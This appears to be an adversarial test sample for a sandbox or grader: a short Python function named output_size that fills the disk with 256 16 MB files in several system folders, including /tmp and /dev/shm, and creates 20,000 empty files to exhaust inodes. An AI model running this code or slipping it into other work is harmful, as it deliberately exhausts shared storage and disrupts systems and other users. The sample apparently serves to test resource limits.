# Fills the disk and the inodes with files in every folder that takes them (at most 4 GB, 20,000 files).
# attacks: output_size
import os
import tempfile
from pathlib import Path

PLACES = [".", tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", os.environ.get("HOME", "."), "@CANARY@"]


def output_size(n, kernel, stride=1):
    block = b"x" * 2**24
    for turn in range(256):
        for place in PLACES[turn % len(PLACES) :]:
            try:
                with Path(place, f"@MARKER@-{turn}").open("wb") as file:
                    file.write(block)
                break
            except OSError:
                continue
    for turn in range(20_000):
        Path(f"{turn}.x").touch()
    return -1
